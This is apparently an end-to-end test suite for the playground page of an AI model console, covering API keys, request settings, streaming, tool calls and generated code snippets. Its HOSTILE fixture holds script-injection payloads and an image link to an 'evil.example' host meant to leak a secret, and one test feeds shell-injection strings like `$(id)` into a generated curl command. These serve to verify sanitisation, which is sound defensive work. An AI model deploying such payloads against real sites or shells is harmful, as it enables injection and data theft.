import type { JobPlan, ScriptedDevice } from '@hearth/gateway/testing'
import { FEATURES } from '@hearth/protocol'
import type { Locator, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { findViolations } from './harness/axe.ts'
import { linkDevice, theOrganization } from './harness/fill.ts'
import { toast, visit } from './harness/people.ts'
import { readCurl } from './harness/read-curl.ts'
import { startConsole } from './harness/start-console.ts'

const system = await startConsole()
let page: Page
let device: ScriptedDevice

beforeAll(async () => {
  page = await system.ownersPage()
  const organization = await theOrganization(system.store)
  for (const name of ['able', 'plain', 'absent']) await system.store.enableModel({ organization, name })
  device = await linkDevice(system.store, system.origin, {
    name: 'Desk',
    models: [{ name: 'able', features: [...FEATURES], slots: 4, contextLength: 32_768 }, { name: 'plain' }],
  })
})
beforeEach(() => {
  device.plan = {}
})
afterAll(async () => {
  await device[Symbol.asyncDispose]()
  await system[Symbol.asyncDispose]()
})

/** A new playground: a visit loads the page, and with that it begins empty. */
async function open(model = 'able'): Promise<void> {
  await visit(page, `/playground?open=${model}`)
  await expect.poll(async () => page.getByLabel('Model', { exact: true }).inputValue()).toBe(model)
}

async function say(text: string): Promise<void> {
  await page.getByLabel('Your message').fill(text)
  await page.keyboard.press('Enter')
}

async function ask(plan: JobPlan, text = 'Hi'): Promise<Locator> {
  device.plan = plan
  await say(text)
  const answer = answers().last()
  await answer
    .getByText(/Complete stop|Calls tools|Cut at the token limit/)
    .first()
    .waitFor()
  return answer
}

function answers(): Locator {
  return page.getByRole('article', { name: 'Answer' })
}

function lastRequest() {
  return device.jobs.at(-1)!.request
}

async function openSettings(...groups: string[]): Promise<void> {
  for (const group of groups) await page.locator('summary', { hasText: group }).click()
}

describe('asking', () => {
  it('[Q40] asks through the API with a key that is in the memory of the page only', async () => {
    await open()
    const called = page.waitForRequest('**/openai/v1/chat/completions')
    await ask({ text: 'Hello there' })
    const { authorization } = await (await called).allHeaders()
    const secret = authorization!.replace('Bearer ', '')
    expect(secret.length).toBeGreaterThan(20)
    const kept = await page.evaluate('JSON.stringify([localStorage, sessionStorage, document.cookie, location.href])')
    expect(kept).not.toContain(secret)
    await page.goto('/keys')
    await page.getByText('No key yet').or(page.getByText('No keys')).first().waitFor()
  })

  it('[Q40] makes one key for many calls, and a new one when it is not valid any more', async () => {
    await open()
    const made: string[] = []
    page.on('request', (request) => void (request.url().endsWith('/playground-key') && made.push(request.url())))
    await ask({ text: 'one' })
    await ask({ text: 'two' })
    expect(made).toHaveLength(1)
    const error = { message: 'No', type: 'invalid_request_error', param: null, code: 'invalid_api_key' }
    const refuse = async (route: { fulfill: (answer: object) => Promise<void> }) =>
      route.fulfill({ status: 401, json: { error } })
    await page.route('**/openai/v1/chat/completions', refuse, { times: 1 })
    await ask({ text: 'three' })
    expect(made).toHaveLength(2)
    expect(lastRequest().messages.map(({ content }) => content)).toStrictEqual(['Hi', 'one', 'Hi', 'two', 'Hi'])
  })

  it('[Q41] offers the enabled models, and says which are served now', async () => {
    await open()
    const groups = page.getByLabel('Model', { exact: true }).locator('optgroup')
    const listed = await groups.evaluateAll((all) =>
      all.map((group) => [group.getAttribute('label'), ...[...group.children].map(({ textContent }) => textContent)]),
    )
    expect(listed).toStrictEqual([
      ['Served now', 'able', 'plain'],
      ['No device serves it now', 'absent'],
    ])
    await page.getByText('Served by 1 device · context 32K · 0 of 4 slots in use').waitFor()
    await page.getByLabel('Model', { exact: true }).selectOption('absent')
    await page.getByText('No device serves it now: a call waits').waitFor()
    expect(new URL(page.url()).search).toBe('?open=absent')
  })

  it('[Q42] sends every field that is set', async () => {
    await open()
    await openSettings('Form of the answer', 'Tools', 'Log probabilities')
    await page.getByLabel('System message').fill('Be brief')
    for (const [label, value] of Object.entries({
      Temperature: '0.3',
      'Top p': '0.9',
      'Max tokens': '77',
      'Choices (n)': '2',
      'Frequency penalty': '0.5',
      'Presence penalty': '-0.5',
      'Stop texts': 'END\n\\n\\n',
      'Logit bias': '{"42": 7}',
    }))
      await page.getByLabel(label).fill(value)
    await page.getByLabel('Reasoning effort').selectOption('high')
    await page.getByLabel('Response format').selectOption('json_object')
    await page.getByRole('button', { name: 'Use the sample' }).click()
    await page.getByLabel('Tool choice').selectOption('none')
    await page.getByLabel('Log probabilities').check()
    await page.getByLabel('Alternatives for each token').selectOption('2')
    await page.getByLabel('Web search').check()
    await page.getByLabel('How much of what is found').selectOption('low')
    await ask({ text: '{}' })
    expect(lastRequest()).toMatchObject({
      model: 'able',
      messages: [
        { role: 'system', content: 'Be brief' },
        { role: 'user', content: 'Hi' },
      ],
      temperature: 0.3,
      topP: 0.9,
      maxTokens: 77,
      n: 2,
      frequencyPenalty: 0.5,
      presencePenalty: -0.5,
      stop: ['END', '\n\n'],
      logitBias: { 42: 7 },
      reasoningEffort: 'high',
      responseFormat: { type: 'json_object' },
      tools: [{ name: 'get_weather' }],
      toolChoice: 'none',
      logprobs: { top: 2 },
      webSearch: { contextSize: 'low' },
    })
  })

  it('[Q42] says at the field what is wrong, and sends nothing', async () => {
    await open()
    await page.getByLabel('Temperature').fill('3')
    await page.getByText('From 0 to 2').waitFor()
    await page.getByLabel('Your message').fill('Hi')
    expect(await page.getByRole('button', { name: 'Send' }).isDisabled()).toBe(true)
    await page.keyboard.press('Enter')
    expect(await answers().count()).toBe(0)
    await page.getByLabel('Temperature').fill('2')
    await page.getByLabel('Your message').press('Enter')
    await answers().getByText('Complete').waitFor()
  })

  it('[Q43] marks what no device of the model supports, while one serves it', async () => {
    const note = page.getByText('No device that serves this model supports it.')
    await open('plain')
    await openSettings('Form of the answer', 'Tools', 'Log probabilities')
    await page.getByLabel('Response format').selectOption('json_schema')
    expect(await note.count()).toBe(7)
    await page.getByLabel('Model', { exact: true }).selectOption('able')
    await note.first().waitFor({ state: 'detached' })
    await page.getByLabel('Model', { exact: true }).selectOption('absent')
    expect(await note.count()).toBe(0)
  })

  it('[Q57] has the answer follow a JSON Schema', async () => {
    await open()
    await openSettings('Form of the answer')
    await page.getByLabel('Response format').selectOption('json_schema')
    const editor = page.getByLabel('JSON Schema', { exact: true })
    await editor.fill('{"type": "object"')
    await page.getByText(/This is no JSON/).waitFor()
    await page.getByRole('button', { name: 'Use the sample' }).click()
    const answer = await ask({ text: '{"title": "# no heading"}' })
    expect(lastRequest().responseFormat).toMatchObject({ type: 'json_schema', name: 'answer' })
    expect(await answer.getByRole('heading').count()).toBe(0)
    await answer.getByText('{"title": "# no heading"}').waitFor()
  })
})

describe('the answer', () => {
  it('[Q44] grows while the model writes, and tells what it took', async () => {
    await open()
    const rest = Promise.withResolvers<void>()
    device.plan = { text: ['One ', 'two ', 'three'], stall: { at: 2, until: rest.promise } }
    await say('Count')
    const answer = answers().last()
    await answer.getByText('One two').waitFor()
    expect(await answer.getAttribute('aria-busy')).toBe('true')
    rest.resolve()
    await answer.getByText('One two three').waitFor()
    await answer.getByText('Complete').waitFor()
    const facts = await answer.locator('dt').allInnerTexts()
    expect(facts).toStrictEqual(['First token', 'Speed', 'Total', 'Tokens'])
    await answer.getByText('1 in, 3 out').waitFor()
  })

  it('[Q44] comes at once when streaming is off', async () => {
    await open()
    await page.getByLabel('Stream the answer').uncheck()
    const called = page.waitForRequest('**/openai/v1/chat/completions')
    const answer = await ask({ text: ['All ', 'of it'] })
    expect((await called).postDataJSON()).not.toHaveProperty('stream')
    await answer.getByText('All of it').waitFor()
    expect(await answer.locator('dt').allInnerTexts()).not.toContain('First token')
  })

  it.each(['button', 'Escape'] as const)(
    '[Q45] is stopped by %s, on the device too, and stays as far as it came',
    async (way) => {
      await open()
      device.plan = { text: ['Half ', 'of it'], stall: { at: 1, until: new Promise(() => {}) } }
      await say('Begin')
      const answer = answers().last()
      await answer.getByText('Half').waitFor()
      await (way === 'button' ? page.getByRole('button', { name: 'Stop' }).click() : page.keyboard.press('Escape'))
      await answer.getByText('Stopped.').waitFor()
      const job = device.jobs.at(-1)!
      await device.until('the job is cancelled', () => job.state === 'cancelled')
      await ask({ text: 'More' }, 'Go on')
      expect(lastRequest().messages.map(({ content }) => content)).toStrictEqual(['Begin', 'Half ', 'Go on'])
    },
  )

  it('[Q46] is asked for again, with what is set now', async () => {
    await open()
    await ask({ text: 'First try' })
    await page.getByLabel('Temperature').fill('0')
    device.plan = { text: 'Second try' }
    await page.getByRole('button', { name: 'Retry' }).click()
    await answers().getByText('Second try').waitFor()
    expect(await answers().count()).toBe(1)
    expect(lastRequest()).toMatchObject({ temperature: 0, messages: [{ content: 'Hi' }] })
  })

  it('[Q46] is replaced when the message before it is edited', async () => {
    await open()
    await ask({ text: 'One' }, 'First')
    await ask({ text: 'Two' }, 'Second')
    expect(await page.getByRole('button', { name: 'Edit message' }).count()).toBe(1)
    await page.getByRole('button', { name: 'Edit message' }).click()
    await page.getByLabel('Message', { exact: true }).fill('Other')
    device.plan = { text: 'Three' }
    await page.getByRole('button', { name: 'Send again' }).click()
    await answers().getByText('Three').waitFor()
    expect(lastRequest().messages.map(({ content }) => content)).toStrictEqual(['First', 'One', 'Other'])
  })

  it('[Q46] breaks lines with Shift and Enter, and sends with Enter', async () => {
    await open()
    const field = page.getByLabel('Your message')
    await field.pressSequentially('One')
    await field.press('Shift+Enter')
    await field.pressSequentially('two')
    await field.press('Enter')
    await answers().getByText('Complete').waitFor()
    expect(lastRequest().messages).toMatchObject([{ content: 'One\ntwo' }])
    expect(await field.inputValue()).toBe('')
  })

  it('[Q46] is cleared, and comes back when that was a mistake', async () => {
    await open()
    await ask({ text: 'Precious' })
    await page.getByRole('button', { name: 'Clear' }).click()
    await toast(page, 'The conversation is cleared')
    expect(await answers().count()).toBe(0)
    await page.getByRole('button', { name: 'Undo' }).click()
    await answers().getByText('Precious').waitFor()
  })

  it('[Q46] is still there after a look at another page, and gone after a reload', async () => {
    await open()
    await ask({ text: 'Still here' })
    await page.getByRole('link', { name: 'Models' }).first().click()
    await page.getByRole('heading', { name: 'Models', exact: true }).waitFor()
    await page.getByRole('link', { name: 'Playground' }).first().click()
    await answers().getByText('Still here').waitFor()
    await page.reload()
    await page.getByText('Say something to the model').waitFor()
  })

  it('[Q48] keeps its text when the device fails in the middle, and says so', async () => {
    await open()
    device.plan = { text: ['Half an ', 'answer'], failure: { at: 1, message: 'Out of memory' } }
    await say('Hi')
    const answer = answers().last()
    await answer.getByText('Half an').waitFor()
    await answer.getByRole('alert').getByText('server_error').waitFor()
    expect(await findViolations(page)).toStrictEqual([])
    await ask({ text: 'Whole' }, 'Again')
    expect(lastRequest().messages.map(({ content }) => content)).toStrictEqual(['Hi', 'Again'])
  })

  it('[Q58] is an error as the API says it', async () => {
    await open('plain')
    await page.getByLabel('Choices (n)').fill('2')
    await say('Hi')
    const problem = answers().last().getByRole('alert')
    await problem.getByText(/None of the devices serving this model supports 'n'/).waitFor()
    expect(await problem.locator('code').allInnerTexts()).toStrictEqual(['400', 'unsupported_by_node', 'n'])
  })

  it('[Q50] calls tools, and takes the results a person types in', async () => {
    await open()
    await openSettings('Tools')
    await page.getByRole('button', { name: 'Use the sample' }).click()
    const answer = await ask({ calls: 'first-tool' }, 'Weather in Oslo?')
    await answer.getByText('"city": "Oslo"').waitFor()
    expect(await findViolations(page)).toStrictEqual([])
    await page.getByLabel('Result of get_weather').fill('{"celsius": 21}')
    device.plan = { text: 'It is warm.' }
    await page.getByRole('button', { name: 'Send results' }).click()
    await answers().last().getByText('It is warm.').waitFor()
    expect(lastRequest().messages.slice(1)).toMatchObject([
      { role: 'assistant', toolCalls: [{ name: 'get_weather', arguments: '{"city":"Oslo"}' }] },
      { role: 'tool', content: '{"celsius": 21}', toolCallId: 'call_000000000000000000000001' },
    ])
  })

  it('[Q51] shows several choices side by side, and goes on with the one that is taken', async () => {
    await open()
    await page.getByLabel('Choices (n)').fill('3')
    const answer = await ask({ text: 'Same' })
    await answer.getByRole('region', { name: 'Choice 3' }).getByText('Complete').waitFor()
    const boxes = await answer
      .getByRole('region')
      .evaluateAll((all) => all.map((one) => one.getBoundingClientRect().top))
    expect(boxes[0]).toBe(boxes[1])
    await answer.getByRole('region', { name: 'Choice 2' }).getByRole('radio').check()
    await page.getByLabel('Choices (n)').fill('')
    await ask({ text: 'Next' })
    expect(lastRequest().messages.map(({ content }) => content)).toStrictEqual(['Hi', 'Same', 'Hi'])
  })

  it('[Q54] is a map of tokens by likelihood, for mouse and keyboard', async () => {
    await open()
    await openSettings('Log probabilities')
    await page.getByLabel('Log probabilities').check()
    const answer = await ask({ text: ['One', ' two'] })
    const card = answer.locator('.token-card')
    await answer.locator('.token').first().hover()
    expect((await card.innerText()).split('\n').slice(0, 2)).toStrictEqual(['"One"', '77.9 %'])
    await page.mouse.move(0, 0)
    await card.waitFor({ state: 'detached' })
    await answer.getByRole('application').focus()
    await page.keyboard.press('End')
    await card.getByText('" two"').first().waitFor()
    await page.keyboard.press('ArrowLeft')
    await card.getByText('"One"').first().waitFor()
    expect(await findViolations(page)).toStrictEqual([])
    await page.getByRole('button', { name: 'Plain text' }).click()
    await answer.getByText('One two').waitFor()
  })

  it('[Q55] names its sources, and asks before it leaves the console', async () => {
    await open()
    await openSettings('Log probabilities')
    await page.getByLabel('Web search').check()
    const annotations = [{ url: 'https://example.com/a?b=c', title: 'The example', start: 0, end: 5 }]
    const answer = await ask({ text: 'Found.', annotations })
    await answer.getByRole('button', { name: 'The example' }).click()
    const dialog = page.getByRole('dialog')
    await dialog.getByText('https://example.com/a?b=c').waitFor()
    const link = dialog.getByRole('link')
    expect([await link.getAttribute('rel'), await link.getAttribute('target')]).toStrictEqual([
      'noopener noreferrer',
      '_blank',
    ])
    await dialog.getByRole('button', { name: 'Stay here' }).click()
    await dialog.waitFor({ state: 'detached' })
  })
})

const HOSTILE = `# Title <b>bold?</b>

<script>document.title = 'run'</script><img src=x onerror="document.title='run'">

![alt text](https://evil.example/leak?secret=1) ![](/api/v1/me)

[friendly](https://evil.example/) [run](javascript:alert(1)) [data](data:text/html,<script>1</script>) <https://evil.example/auto>

<iframe src="https://evil.example"></iframe> \u202Eevil\u202C \u0007 \u200B

\`\`\`html
<script>code()</script>
\`\`\`

| table |
|---|
| ![x](https://evil.example/cell) |

- [x] <u>done</u>

#### Far below

A note[^1].

[^1]: The text of the note.
`

describe('text of a model', () => {
  it('[Q53] runs nothing, loads nothing and opens nothing', async () => {
    await open()
    const answer = await ask({ text: HOSTILE })
    await answer.getByRole('heading', { name: 'Title <b>bold?</b>' }).waitFor()
    await answer.getByRole('heading', { name: 'Far below' }).waitFor()
    expect(await answer.locator('script, img, iframe, a, u, b').count()).toBe(0)
    await answer.getByText('Image: alt text (https://evil.example/leak?secret=1)').waitFor()
    expect(await answer.getByRole('button', { name: 'run' }).count()).toBe(0)
    await answer.getByRole('button', { name: 'friendly' }).click()
    await page.getByRole('dialog').getByText('https://evil.example/').waitFor()
    await page.keyboard.press('Escape')
    expect(await page.title()).toBe('Playground · Hearth')
    expect(await findViolations(page)).toStrictEqual([])
  })

  it('[Q53] copies code as it is', async () => {
    await open()
    const answer = await ask({ text: HOSTILE })
    await answer.getByRole('button', { name: 'Copy code' }).click()
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe('<script>code()</script>')
    await page.getByRole('button', { name: 'Plain text' }).click()
    await answer.getByText('<script>document.title').waitFor()
  })

  it('[Q52] stays whole when it is long', async () => {
    await open()
    const paragraphs = Array.from({ length: 1500 }, (_, index) => `Paragraph **${index}** of many.\n\n`)
    const answer = await ask({ text: paragraphs, tokensPerMessage: 5 })
    await answer.getByText('Paragraph 1499 of many.').waitFor()
    expect(await answer.locator('p', { hasText: 'of many.' }).count()).toBe(1500)
    expect(
      await page.evaluate('window.scrollY + window.innerHeight >= document.documentElement.scrollHeight - 200'),
    ).toBe(true)
  })
})

describe('the code of a call', () => {
  it('[Q56] makes the same call in a shell, whatever the texts hold', async () => {
    const text = `It's "$HOME" \`id\` $(id) \\ \u202E end'; exit`
    await open()
    await page.getByLabel('Temperature').fill('0.5')
    await ask({ text: 'Fine' }, text)
    const made = lastRequest()
    await page.getByRole('button', { name: 'View code' }).click()
    const command = await page.getByLabel('curl code', { exact: true }).innerText()
    const { key } = await newKey()
    const { url, method, headers, body } = await readCurl(command, { HEARTH_API_KEY: key })
    expect(url).toBe(`${system.origin}/openai/v1/chat/completions`)
    const response = await fetch(url, { method, headers, body: body! })
    expect(await response.text()).toContain('[DONE]')
    expect(lastRequest()).toStrictEqual(made)
    await page.getByRole('tab', { name: 'Python' }).click()
    await page.getByLabel('Python code', { exact: true }).waitFor()
    await page.getByRole('tab', { name: 'TypeScript' }).click()
    expect(await page.getByLabel('TypeScript code', { exact: true }).innerText()).toContain('temperature: 0.5')
    expect(await findViolations(page)).toStrictEqual([])
    await page.keyboard.press('Escape')
  })
})

async function newKey(): Promise<{ key: string }> {
  const organization = await theOrganization(system.store)
  const { secret } = await system.call(page, `/organizations/${organization}/keys`, { name: 'From a shell' })
  return { key: String(secret) }
}

describe('the page', () => {
  it('[Q13] has its settings in a sheet on a phone', async () => {
    const phone = await system.ownersPage({ viewport: { width: 375, height: 812 } })
    await visit(phone, '/playground?open=able')
    await phone.getByRole('button', { name: 'Settings' }).click()
    await phone.getByRole('dialog').getByLabel('Temperature').fill('1')
    expect(await findViolations(phone)).toStrictEqual([])
    await phone.keyboard.press('Escape')
    await phone.getByLabel('Your message').fill('Hi')
    await phone.keyboard.press('Enter')
    await phone.getByText('Complete stop').waitFor()
    expect(lastRequest().temperature).toBe(1)
    expect(await phone.evaluate('document.documentElement.scrollWidth')).toBe(375)
    await phone.context().close()
  })

  it('[Q40] asks to sign in again when the session has ended', async () => {
    const guest = await system.ownersPage()
    await visit(guest, '/playground?open=able')
    await guest.getByLabel('Your message').fill('Hi')
    await guest.context().clearCookies()
    await guest.keyboard.press('Enter')
    await guest.getByRole('button', { name: 'Sign in', exact: true }).waitFor()
    await guest.context().close()
  })

  it('[Q15] asked no other origin for anything, and broke nowhere', () => {
    expect(system.observed).toStrictEqual({ foreignRequests: [], faults: [] })
  })
})
